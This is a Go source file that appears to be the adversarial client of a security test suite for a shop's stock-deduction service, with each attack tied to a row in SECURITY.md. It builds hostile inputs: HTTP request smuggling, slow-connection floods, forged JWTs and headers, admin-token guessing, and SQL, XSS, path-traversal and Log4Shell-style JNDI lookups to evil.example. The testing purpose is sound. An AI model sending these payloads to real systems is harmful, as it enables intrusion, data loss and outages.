package hostile

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
)

// Attack is one way to do harm: it makes one request, or uses one connection.
type Attack struct {
	// Name is what the report calls it, Row its row in SECURITY.md.
	Name, Row string
	// Weight is how often it is picked beside the others; 0 is 1.
	Weight int
	// Largest bounds the bytes of one answer; 0 sets no bound.
	Largest int
	// Denied tells that no answer may be a success.
	Denied bool

	sends func(*attacker) sending
}

func (t Attack) do(ctx context.Context, a *attacker) []outcome { return t.sends(a).send(ctx, a) }

// Attacks lists all that the attacker does. One more is one entry more.
func Attacks() []Attack {
	return slices.Concat(identities(), stolenKeys(), floods(), lines(), forgeries(), adminAttacks(), connections(), malformed())
}

// schedule is what one connection does: every attack once, from another one on than the
// other connections, and then any.
type schedule struct {
	attacks []Attack
	number  int
	made    int
	weighed []int // each attack as often as its weight says
}

func newSchedule(attacks []Attack, number int) *schedule {
	s := &schedule{attacks: attacks, number: number}
	for i, attack := range attacks {
		s.weighed = append(s.weighed, slices.Repeat([]int{i}, max(1, attack.Weight))...)
	}
	return s
}

func (s *schedule) next(a *attacker) int {
	if s.made++; s.made > len(s.attacks) {
		return pick(a, s.weighed...)
	}
	return (s.number + s.made) % len(s.attacks)
}

// largestProblem is the most bytes of an answer that says what is wrong.
const largestProblem = 8 << 10

// identities are attacks by the buyer and the item of a purchase.
func identities() []Attack {
	return []Attack{
		{Name: "buy items that do not exist", Row: "1", Weight: 4, sends: func(a *attacker) sending { return a.buy(a.id(), a.account(), nil) }},
		{Name: "buy items that do not exist through any strategy", Row: "1", Weight: 4, sends: func(a *attacker) sending {
			return a.buy(a.id(), a.account(), pairs{"strategy": pick(a, a.strategies...)})
		}},
		{Name: "read items that do not exist", Row: "1", sends: func(a *attacker) sending {
			return get(pick(a, "/goods/", "/orders/") + a.id() + pick(a, "", "", "/audit"))
		}},
		{Name: "buy as invented users", Row: "2", Weight: 2, sends: inventUser},
		{Name: "buy as an honest user", Row: "2", sends: func(a *attacker) sending {
			_, user := a.stolen(a.Rand)
			return a.buy(a.slowItem(), a.account(), pairs{"user_id": user})
		}},
		{Name: "buy without a user", Row: "2", sends: func(a *attacker) sending { return a.buy(a.anyItem(), "", nil) }},
		{Name: "buy 5,000 units", Row: "3", Weight: 2, sends: func(a *attacker) sending {
			return a.buy(a.anyItem(), a.account(), pairs{"quantity": pick(a, "5000", "11", "100", "1000000")})
		}},
	}
}

func stolenKeys() []Attack {
	return []Attack{
		{Name: "replay a stolen key", Row: "4", sends: func(a *attacker) sending {
			key, user := a.stolen(a.Rand)
			return a.buy(itoa(a.hot), pick(a, "", a.account(), strings.ToUpper(user)), nil).under(key)
		}},
		{Name: "look up a stolen key", Row: "4", sends: func(a *attacker) sending {
			key, _ := a.stolen(a.Rand)
			return get("/orders?request_id=" + url.QueryEscape(key))
		}},
		{Name: "guess keys", Row: "4", sends: func(a *attacker) sending {
			key := pick(a, restockKey(a.IntN(8)), "order-"+strconv.Itoa(a.IntN(100)), strconv.Itoa(a.IntN(1000)))
			return a.buy(a.slowItem(), a.account(), nil).under(key)
		}},
		{Name: "use up keys", Row: "4", sends: func(a *attacker) sending { return a.buy(a.slowItem(), a.account(), nil).under(a.text(128)) }},
	}
}

// floods are attacks by what a purchase costs.
func floods() []Attack {
	return []Attack{
		{Name: "buy items of slow strategies", Row: "5", Weight: 8, sends: func(a *attacker) sending { return a.buy(a.slowItem(), a.account(), nil) }},
		{Name: "name a strategy for the hot item", Row: "5", Weight: 4, sends: func(a *attacker) sending {
			return a.buy(itoa(a.hot), a.account(), pairs{"strategy": pick(a, a.strategies...), "group": pick(a, "true", "false"), "fence": pick(a, "true", "false")})
		}},
		{Name: "send 16 KiB of unknown fields", Row: "6", Weight: 2, Largest: largestProblem, sends: unknownFields},
		{Name: "send hundreds of query parameters", Row: "6", Largest: largestProblem, sends: func(a *attacker) sending {
			return a.deduct("?"+strings.Repeat(a.text(1)+"=1&", 900), "")
		}},
		{Name: "nest 16 KiB of JSON", Row: "6", Largest: largestProblem, sends: func(a *attacker) sending {
			open := pick(a, "[", `{"a":`, `{"goods_id":[`)
			return a.deduct("", strings.Repeat(open, 16000/len(open)))
		}},
		{Name: "name a strategy that is not configured", Row: "7", Weight: 2, sends: func(a *attacker) sending {
			return a.buy(itoa(a.hot), a.account(), pairs{"strategy": pick(a, "etcd", "zk-sequential", "redlock", "redsync", "hope")})
		}},
		{Name: "list strategies and the description", Row: "5", sends: func(a *attacker) sending { return get(pick(a, "/strategies", "/openapi.yaml")) }},
	}
}

// lines are attacks on the waiting room of an item.
func lines() []Attack {
	return []Attack{
		{Name: "forge a ticket", Row: "15", Denied: true, sends: func(a *attacker) sending {
			content := a.bytes(16) + itoa(lineItem) + ".0." + a.account()
			encode := base64.RawURLEncoding.EncodeToString
			return get("/queue/" + pick(a, a.text(40), encode([]byte(content)), encode([]byte(content[16:]))))
		}},
		{Name: "buy with the ticket of another buyer", Row: "15", Weight: 2, Denied: true, sends: func(*attacker) sending {
			return steps(func(ctx context.Context, a *attacker) []outcome {
				ticket := a.join(a.account()).send(ctx, a)[0].ticket
				return a.buy(itoa(lineItem), "no-"+a.account(), nil).under(ticket).send(ctx, a)
			})
		}},
		{Name: "join the line again and again", Row: "15", Weight: 4, sends: func(a *attacker) sending {
			account := a.account()
			return steps(func(ctx context.Context, a *attacker) (list []outcome) {
				for range 5 {
					list = append(list, a.join(account).send(ctx, a)...)
				}
				return list
			})
		}},
		{Name: "ask for a place without a pause", Row: "15", Weight: 2, sends: func(*attacker) sending {
			return steps(func(ctx context.Context, a *attacker) []outcome {
				list := a.join(a.account()).send(ctx, a)
				for range 10 {
					list = append(list, get("/queue/"+list[0].ticket).send(ctx, a)...)
				}
				return list
			})
		}},
	}
}

// join has an account join the line. Its ticket is empty where it gets none.
func (a *attacker) join(account string) request {
	user, header := a.identify(account)
	query := url.Values{"goods_id": {itoa(lineItem)}}
	if user != "" {
		query.Set("user_id", user)
	}
	return request{method: http.MethodPost, path: "/queue?" + query.Encode(), header: header}
}

func itoa(id int64) string { return strconv.FormatInt(id, 10) }

func (a *attacker) slowItem() string { return itoa(pick(a, a.slow...)) }

func (a *attacker) anyItem() string { return itoa(pick(a, append(slices.Clone(a.slow), a.hot)...)) }

func (a *attacker) account() string { return "attacker-" + strconv.Itoa(a.IntN(1000)) }

// identify names the buyer by its user_id or, where buyers have tokens, in a header.
func (a *attacker) identify(user string) (userID string, header pairs) {
	if a.issuer.secret == "" {
		return user, pairs{}
	}
	return "", pairs{"Authorization": "Bearer " + a.issuer.token(user)}
}

// deduct is a purchase that says of its buyer no more than a header does.
func (a *attacker) deduct(query, body string) request {
	_, header := a.identify(a.account())
	return request{method: http.MethodPost, path: "/deduct" + query, body: body, header: header}
}

// buy is a purchase by an account that the attacker has, or by none, with more fields.
func (a *attacker) buy(item, account string, fields pairs) request {
	values, header := url.Values{"goods_id": {item}}, pairs{}
	if account != "" {
		var user string
		if user, header = a.identify(account); user != "" {
			values.Set("user_id", user)
		}
	}
	for name, value := range fields {
		values.Set(name, value)
	}
	return request{method: http.MethodPost, path: "/deduct?" + values.Encode(), header: header}
}

func get(path string) request { return request{method: http.MethodGet, path: path} }

// inventUser buys as a user that may be written in several ways.
func inventUser(a *attacker) sending {
	number := a.IntN(50)
	user := pick(a, fmt.Sprintf(`%d`, number), fmt.Sprintf(`%d.0`, number), fmt.Sprintf(`" %d"`, number), fmt.Sprintf(`"%d "`, number),
		fmt.Sprintf(`%de0`, number), `-0`, `null`, `""`, `[1]`, `"e\u0301"`, `"\u00e9"`, `"\u0000"`, `"`+a.text(64)+`"`, `"`+a.text(65)+`"`)
	return request{method: http.MethodPost, path: "/deduct", body: fmt.Sprintf(`{"goods_id": %s, "user_id": %s}`, a.slowItem(), user)}
}

func unknownFields(a *attacker) sending {
	var body strings.Builder
	body.WriteString(`{"goods_id": 1`)
	for i := 0; body.Len() < 16000; i++ {
		fmt.Fprintf(&body, `,"%s%d":1`, pick(a, "", "x", `\u0000`), i)
	}
	body.WriteByte('}')
	return a.deduct("", body.String())
}

// The heads of requests.
const (
	purchase = "POST /deduct HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n"
	health   = "GET /healthz HTTP/1.1\r\nHost: shop\r\n"
)

// connections are attacks by connections that do little, each with one of its own.
func connections() []Attack {
	return []Attack{
		{Name: "send a header slowly", Row: "10", Denied: true, sends: func(a *attacker) sending { return a.drip(a.anyListener(), purchase+"X-Slow: ") }},
		{Name: "send a body slowly", Row: "10", Denied: true, sends: func(a *attacker) sending {
			return a.drip(a.anyListener(), purchase+"Content-Length: 4000\r\n\r\n{")
		}},
		{Name: "drop a purchase in the middle", Row: "10", Weight: 2, sends: func(a *attacker) sending {
			text := a.purchase(a.slowItem(), a.text(20))
			return a.drop(a.public, text[:len(text)-a.IntN(len(text))])
		}},
		{Name: "drop a purchase before its answer", Row: "10", Weight: 2, sends: func(a *attacker) sending {
			return a.drop(a.public, a.purchase(a.anyItem(), a.text(20)))
		}},
		{Name: "open a connection and close it", Row: "10", Weight: 4, sends: func(a *attacker) sending { return a.drop(a.anyListener(), "") }},
		{Name: "open a connection and say nothing", Row: "10", sends: func(a *attacker) sending { return a.write(a.anyListener(), "", 1) }},
	}
}

// malformed are attacks at the edge of HTTP, each on a connection of its own.
func malformed() []Attack {
	return []Attack{
		{Name: "pipeline requests", Row: "10", sends: func(a *attacker) sending {
			head := pick(a, health, purchase+"Content-Length: 0\r\n", "POST /deduct?goods_id="+a.id()+" HTTP/1.1\r\nHost: shop\r\nContent-Length: 0\r\n")
			return a.write(a.public, strings.Repeat(head+"\r\n", 20), 20)
		}},
		{Name: "send oversized headers", Row: "10", sends: func(a *attacker) sending {
			big := pick(a, "X-Big: "+a.text(64<<10)+"\r\n", strings.Repeat("X-Many: 1\r\n", 6000), "Cookie: "+a.text(9000)+"\r\n")
			return a.write(a.anyListener(), health+big+"\r\n", 1)
		}},
		{Name: "send an oversized line", Row: "10", Denied: true, sends: func(a *attacker) sending {
			return a.write(a.anyListener(), "GET /"+a.text(32<<10)+" HTTP/1.1\r\nHost: shop\r\n\r\n", 1)
		}},
		{Name: "send an oversized body", Row: "10", Denied: true, sends: func(a *attacker) sending {
			return a.write(a.anyListener(), purchase+pick(a, "Content-Length: 1048576\r\n\r\n"+a.text(64<<10), "Transfer-Encoding: chunked\r\n\r\n10000\r\n"+a.text(64<<10)+"\r\n"), 1)
		}},
		{Name: "smuggle a request", Row: "10", Denied: true, sends: smuggle},
		{Name: "speak something else", Row: "10", sends: func(a *attacker) sending {
			return a.write(a.anyListener(), pick(a, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"+a.bytes(500), "GET /\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
				"*1\r\n$4\r\nPING\r\n\r\n\r\n", a.bytes(300)+"\r\n\r\n", "CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
				"GET http://evil.example/ HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n", "GET /healthz HTTP/1.1\r\n\r\n", "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"), 1)
		}},
	}
}

func (a *attacker) purchase(item, key string) string {
	user, header := a.identify(a.account())
	body := fmt.Sprintf(`{"goods_id": %s}`, item)
	if user != "" {
		body = fmt.Sprintf(`{"goods_id": %s, "user_id": %q}`, item, user)
	}
	identity := ""
	for name, value := range header {
		identity = name + ": " + value + "\r\n"
	}
	return fmt.Sprintf("%sIdempotency-Key: %s\r\n%sContent-Length: %d\r\n\r\n%s", purchase, key, identity, len(body), body)
}

// anyListener is the public one mostly.
func (a *attacker) anyListener() string {
	return pick(a, a.public, a.public, a.public, a.admins[a.IntN(len(a.admins))])
}

// smuggledKey begins the keys of smuggled purchases.
const smuggledKey = "smuggled-"

// smuggle sends a request whose end two servers may see at different places: the
// smuggled one must not be served. It is a purchase that is sold where it is served.
func smuggle(a *attacker) sending {
	smuggled := a.purchase(a.slowItem(), smuggledKey+a.text(12))
	head := "POST /deduct?goods_id=" + a.id() + " HTTP/1.1\r\nHost: shop\r\n"
	return a.write(a.public, head+pick(a,
		fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", len(smuggled)+5, smuggled),
		fmt.Sprintf("Content-Length: 4\r\nContent-Length: %d\r\n\r\n%s", len(smuggled), smuggled),
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"+smuggled,
		"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"+smuggled,
		"Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"+smuggled,
		"Content-Length: -1\r\n\r\n"+smuggled, "Content-Length: +0\r\n\r\n"+smuggled,
		"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"+smuggled,
	), 2)
}

// forgeries are attacks by what a client says of itself.
func forgeries() []Attack {
	return []Attack{
		{Name: "forge the address", Row: "13", Weight: 2, sends: func(a *attacker) sending {
			forged := fmt.Sprintf("198.51.100.%d", a.IntN(256))
			header := make(pairs)
			for _, name := range []string{"X-Forwarded-For", "X-Real-IP", "Forwarded", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP"} {
				header[name] = pick(a, forged, "127.0.0.1", "for="+forged, forged+", 127.0.0.1", "2001:db8::1%eth0", ",")
			}
			return a.buy(a.slowItem(), a.account(), nil).with(header)
		}},
		{Name: "forge the buyer", Row: "2", sends: func(a *attacker) sending {
			key, user := a.stolen(a.Rand)
			return a.buy(a.slowItem(), "", nil).under(key).with(pairs{"X-Stockd-Buyer": user})
		}},
		{Name: "forge a token", Row: "2", Weight: 2, sends: func(a *attacker) sending {
			return a.buy(a.slowItem(), "", nil).with(pairs{"Authorization": pick(a, "Bearer ", "bearer ", "Basic ", "") + a.token()})
		}},
		{Name: "forge the host and the prefix", Row: "11", sends: func(a *attacker) sending {
			return request{
				method: http.MethodGet, path: pick(a, "/goods/1/", "/deduct/", "//evil.example/", "/healthz"), host: pick(a, "evil.example", "127.0.0.1", "localhost:1"),
				header: pairs{"X-Forwarded-Prefix": "//evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Original-URL": "/goods"},
			}
		}},
		{Name: "add a slash", Row: "11", sends: func(a *attacker) sending {
			path := pick(a, "/deduct/", "/goods/1/", "//deduct", "/deduct/..", "/./deduct", "/readyz/", "/DEDUCT", "/goods//1", "/strategies/")
			return request{method: pick(a, http.MethodPost, http.MethodGet), path: path, header: pairs{"X-Forwarded-Prefix": "/evil"}}
		}},
		{Name: "ask whether it is ready", Row: "11", Weight: 3, sends: func(a *attacker) sending { return get(pick(a, "/readyz", "/healthz", "/readyz?"+a.text(5))) }},
		{Name: "put fragments of languages into fields", Row: "1", sends: func(a *attacker) sending {
			fragment := pick(a, `1'; DROP TABLE tb_goods_stock; --`, `1 OR 1=1`, `"><script>alert(1)</script>`, `return redis.call('FLUSHALL')`,
				`../../etc/passwd`, "\x00\x01", "\r\nX-Injected: yes", `%s%n%d`, `${jndi:ldap://evil.example/}`)
			field := pick(a, "goods_id", "quantity", "user_id", "strategy", "group", "durable", a.text(3))
			return a.deduct("?"+url.Values{"goods_id": {"1"}, field: {fragment}}.Encode(), "")
		}},
		{Name: "send anything", Row: "6", Weight: 3, sends: anything},
	}
}

// anything is a request of random parts.
func anything(a *attacker) sending {
	path := pick(a, "/deduct", "/goods/", "/orders", "/strategies", "/", "/metrics", "/debug/pprof/", "/lab/faults") +
		pick(a, "", "?", "?goods_id=", "/../") + url.QueryEscape(a.bytes(a.IntN(40)))
	header := pairs{"X-Request-ID": a.text(a.IntN(200)), "Idempotency-Key": a.text(1 + a.IntN(200)), "Traceparent": a.text(55)}
	if a.IntN(2) == 0 {
		header["Content-Type"] = pick(a, "application/json", "application/x-www-form-urlencoded", "text/html", "multipart/form-data; boundary=x", "application/json; charset=utf-16")
	}
	method := pick(a, http.MethodPost, http.MethodGet, http.MethodPut, http.MethodPatch, http.MethodDelete, http.MethodOptions, http.MethodTrace, "BREW")
	body := pick(a, "", a.bytes(a.IntN(2000)), `{"goods_id": 1, "quantity": 1e3}`, `{"goods_id": 1} {}`, `{"goods_id": 1, "goods_id": 2}`, "goods_id=1&goods_id=2")
	return request{method: method, path: path, header: header, body: body}
}

// token is a JWT that no issuer signed.
func (a *attacker) token() string {
	_, user := a.stolen(a.Rand)
	algorithm := pick(a, "none", "None", "HS256", "HS512", "EdDSA", "RS256", "", "ES256")
	header := fmt.Sprintf(`{"alg":%q,"typ":"JWT","kid":%q,"jwk":{"kty":"oct","k":"AAAA"},"jku":"http://evil.example/"}`, algorithm, pick(a, "", "1", "../../dev/null", a.text(20)))
	claims := fmt.Sprintf(`{"sub":%q,"exp":%d,"aud":%q}`, user, pick[int64](a, 0, 1_000_000_000, 4_000_000_000, 1<<60), pick(a, "shop", "", "stockd"))
	whole := sign(header, claims, pick(a, "", "secret", "password", "0123456789abcdef0123456789abcdef"))
	unsigned := whole[:strings.LastIndexByte(whole, '.')]
	return pick(a, whole, unsigned+".", unsigned, a.text(40), strings.Repeat(a.text(8), 900), "..", a.text(6)+"."+a.text(9)+"."+a.text(9))
}

func adminAttacks() []Attack {
	return []Attack{
		{Name: "guess the admin token", Row: "8", Weight: 3, Denied: true, sends: func(a *attacker) sending {
			return a.adminCall(pairs{"Authorization": pick(a, "Bearer ", "bearer ", "Basic ", "") +
				pick(a, "", strings.Repeat("a", 16), "change-me-change-me", "stockd-admin-token", "secret", a.text(26), a.text(4000))})
		}},
		{Name: "write without a token", Row: "8", Denied: true, sends: func(a *attacker) sending { return a.adminCall(nil) }},
		// With the token, so that the host alone is what it can be rejected for.
		{Name: "rebind the admin API", Row: "9", Denied: true, sends: func(a *attacker) sending {
			return request{
				method: http.MethodGet, path: pick(a, "/goods/1", "/metrics", "/strategies"), admin: true,
				host:   pick(a, "evil.example", "evil.example:80", "127.0.0.1.evil.example", "localhost.evil.example"),
				header: pairs{"Origin": "http://evil.example", "Authorization": "Bearer " + a.adminToken},
			}
		}},
		{Name: "learn what is switched on", Row: "11", Denied: true, sends: func(a *attacker) sending {
			return request{
				method: pick(a, http.MethodGet, http.MethodPost, http.MethodPut, http.MethodDelete), admin: true,
				path: pick(a, "/debug/pprof/", "/metrics", "/lab/faults", "/nothing", "/goods", "/strategies/naive"),
			}
		}},
		{Name: "write on the public API", Row: "8", Denied: true, sends: func(a *attacker) sending {
			return request{
				method: http.MethodPost, path: pick(a, "/goods", "/goods/"+itoa(a.hot)+"/restock", "/goods/"+itoa(a.hot)+"/recall", "/lab/faults"),
				body: `{"goods_id": 7, "stock": 1000, "quantity": 1000}`, header: pairs{"Authorization": "Bearer " + a.text(26)},
			}
		}},
	}
}

// adminCall is a request that writes, or reads what only an admin may.
func (a *attacker) adminCall(header pairs) request {
	hot := itoa(a.hot)
	return pick(a,
		request{method: http.MethodPost, path: "/goods", body: `{"goods_id": ` + a.id() + `, "stock": 1}`, admin: true, header: header},
		request{method: http.MethodPost, path: "/goods/" + hot + "/restock", body: `{"quantity": 1000}`, admin: true, header: header},
		request{method: http.MethodPost, path: "/goods/" + hot + "/recall", body: `{}`, admin: true, header: header},
		request{method: http.MethodPatch, path: "/goods/" + hot, body: `{"per_user": 1000}`, admin: true, header: header},
		request{method: http.MethodPut, path: "/strategies/sql-conditional", body: `{"enabled": false, "reason": "mine"}`, admin: true, header: header},
		request{method: http.MethodGet, path: "/orders?goods_id=" + hot, admin: true, header: header},
		request{method: http.MethodGet, path: "/goods/" + hot + "/audit?full=true", admin: true, header: header},
	)
}
